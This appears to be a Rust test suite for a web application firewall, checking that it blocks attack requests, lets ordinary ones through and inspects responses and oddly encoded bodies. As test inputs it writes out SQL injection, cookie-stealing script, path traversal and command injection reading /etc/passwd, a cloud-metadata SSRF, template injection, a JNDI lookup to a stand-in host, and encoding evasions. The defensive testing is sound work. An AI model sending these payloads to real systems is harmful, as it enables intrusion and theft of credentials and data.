//! The rules at work in the gate: both ways, and both modes.

use crate::harness::{Answer, Gate, H1, Replica, h2_request};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_are_refused_wherever_they_are_and_ordinary_requests_pass() {
    let replica = Replica::plain().await;
    let gate = Gate::start(&[replica.address], "").await;
    let sqli = "1%27%20UNION%20SELECT%20password%20FROM%20users--";
    for (what, target, fields) in [
        ("SQL injection", format!("/api/tasks?q={sqli}"), String::new()),
        ("script", "/?x=%3Cscript%3Ealert(document.cookie)%3C/script%3E".into(), String::new()),
        ("traversal", "/files?name=../../../../etc/passwd".into(), String::new()),
        ("command", "/?host=127.0.0.1;cat%20/etc/passwd".into(), String::new()),
        ("metadata address", "/fetch?url=http://169.254.169.254/latest/meta-data/".into(), String::new()),
        ("template", "/?name=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D".into(), String::new()),
        ("scanner", "/".into(), "user-agent: sqlmap/1.7\r\n".into()),
        ("lookup", "/".into(), "x-api-version: ${jndi:ldap://evil.test/a}\r\n".into()),
    ] {
        let agent = if fields.contains("user-agent") { "" } else { "user-agent: suite\r\n" };
        let reply = H1::tls(gate.tls)
            .await
            .send(format!("GET {target} HTTP/1.1\r\nhost: gate.test\r\naccept: */*\r\n{agent}{fields}\r\n"))
            .await;
        assert_eq!(reply.status, 403, "{what}: {target} {fields}");
    }
    let json = br#"{"filter": {"name": "x' OR '1'='1' -- "}}"#;
    assert_eq!(H1::tls(gate.tls).await.post("/api/query", "application/json", json).await.status, 403);
    assert_eq!(replica.touched(), (0, 0));
    for target in [
        "/",
        "/api/tasks?q=select+a+plan+from+the+list",
        "/api/tasks?q=C%2B%2B+%26+Rust",
        "/api/pages/by-url?url=https%3A%2F%2Fdocs.rs%2Ftokio%2Flatest%2Ftokio%2F%3Fsearch%3Dspawn",
        "/api/tasks?title=O%27Reilly",
    ] {
        let reply = h2_request(gate.tls, "GET", target, &[], Vec::new()).await;
        assert_eq!(reply.status, 200, "{target}: {}", reply.text());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detect_mode_records_and_lets_pass() {
    let replica = Replica::plain().await;
    let gate = Gate::start(&[replica.address], "[waf]\nmode = \"detect\"\n").await;
    let reply = H1::tls(gate.tls).await.get("/?x=%3Cscript%3Ealert(1)%3C/script%3E", "").await;
    assert_eq!(reply.status, 200);
    let event = gate.event(&reply).await;
    assert_eq!(event["action"], "pass");
    assert!(!event["rules"].as_array().unwrap().is_empty());
    // Framing is never only recorded.
    assert_eq!(H1::tls(gate.tls).await.send("GET /a b HTTP/1.1\r\nhost: a\r\n\r\n").await.status, 400);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_response_is_judged_before_its_head_leaves() {
    const RULES: &str = "SecRule RESPONSE_BODY \"@contains leaked-mark\" \"id:9400,phase:4,deny,status:403,t:none,log\"\n\
        SecRule RESPONSE_HEADERS:x-debug \"@streq on\" \"id:9401,phase:3,deny,status:403,t:none,log\"\n";
    let replica = Replica::start(|seen| match seen.target() {
        "/body" => Answer::ok(format!("{} leaked-mark", "x".repeat(100_000))),
        "/head" => Answer::with(&[("content-type", "text/plain"), ("x-debug", "on")], "fine"),
        "/binary" => Answer::with(&[("content-type", "image/png")], "leaked-mark"),
        _ => Answer::ok("x".repeat(2_000_000)),
    })
    .await;
    let gate = Gate::start_with(&[replica.address], "[waf]\nrules = \"own.conf\"\n", |dir| {
        std::fs::write(dir.path().join("own.conf"), RULES).unwrap();
    })
    .await;
    for (target, status) in [("/body", 403), ("/head", 403), ("/binary", 200), ("/large", 200)] {
        let one = H1::tls(gate.tls).await.get(target, "").await;
        let two = h2_request(gate.tls, "GET", target, &[], Vec::new()).await;
        assert_eq!((one.status, two.status), (status, status), "{target}");
        assert_eq!(one.body.len() > 1_000_000, target == "/large");
        assert!(status == 200 || !one.text().contains("leaked-mark"));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_takes_too_much_work_is_refused_or_passes_as_declared() {
    const RULES: &str = "SecGatehouseWorkLimit 1048576\n\
        SecRule ARGS|REQUEST_BODY \"@rx z{9}y\" \"id:9402,phase:2,deny,status:403,t:none,log\"\n";
    let body = format!("q={}", "z1".repeat(1_000_000));
    for (on_budget, status, enforced) in [("block", 413, true), ("detect", 200, false)] {
        let replica = Replica::plain().await;
        let config = format!("[waf]\nrules = \"own.conf\"\non_budget = \"{on_budget}\"\n");
        let gate = Gate::start_with(&[replica.address], &config, |dir| {
            std::fs::write(dir.path().join("own.conf"), RULES).unwrap();
        })
        .await;
        let kind = "application/x-www-form-urlencoded";
        let reply = H1::tls(gate.tls).await.post("/", kind, body.as_bytes()).await;
        assert_eq!(reply.status, status, "{on_budget}");
        let event = gate.event(&reply).await;
        let finding = &event["gatehouse"]["findings"][0];
        assert_eq!(finding["enforced"], enforced, "{event}");
        assert!(finding["detail"].as_str().unwrap().contains("more work than its limit"), "{event}");
        assert_eq!(gate.metric("gatehouse_waf_exhausted_total").await, 1.0);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_body_is_judged_whatever_it_says_it_is() {
    let replica = Replica::plain().await;
    let gate = Gate::start(&[replica.address], "").await;
    let attack = br#"{"q":"1' UNION SELECT password FROM users--"}"#;
    let utf16: Vec<u8> = attack.iter().flat_map(|byte| [*byte, 0]).collect();
    for (fields, body) in [
        ("", &attack[..]),
        ("content-type: \r\n", attack),
        ("content-type: text/plain\r\n", attack),
        ("content-type: application/vnd.api+json\r\n", attack),
        ("content-type: APPLICATION/JSON;x=\"a\r\n", attack),
        ("content-type: text/plain\r\ncontent-type: application/json\r\n", attack),
        ("content-type: application/json\r\ncontent-type: text/plain\r\n", attack),
        ("content-type: no/such\r\n", attack),
        ("content-type: application/x-www-form-urlencoded\r\n", attack),
        ("content-type: application/json\r\n", br#"{"q":"1\u0027 UNI\u004fN SELECT password FROM users--"}"#),
        ("content-type: application/json\r\n", br#"{"1' UNION SELECT password FROM users--":1}"#),
        ("content-type: application/json\r\n", br#"{"q":"ok","q":"1' UNION SELECT password FROM users--"}"#),
        ("content-type: application/json\r\n", &utf16),
        ("content-type: application/json; charset=utf-16\r\n", &utf16),
        ("content-type: application/json\r\ncontent-encoding: gzip\r\n", b"\x1f\x8b\x08\0\0\0\0\0\0\x03"),
        (
            "content-type: multipart/form-data; boundary=x; boundary=b\r\n",
            b"--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nx\r\n--b--\r\n",
        ),
    ] {
        let mut bytes = format!(
            "POST /api/x HTTP/1.1\r\nhost: gate.test\r\nuser-agent: suite\r\naccept: */*\r\n{fields}content-length: {}\r\n\r\n",
            body.len()
        )
        .into_bytes();
        bytes.extend_from_slice(body);
        let reply = H1::tls(gate.tls).await.send(bytes).await;
        assert!(matches!(reply.status, 400 | 403 | 415), "{}: {fields:?} {}", reply.status, body.escape_ascii());
    }
    assert_eq!(replica.touched(), (0, 0));
}
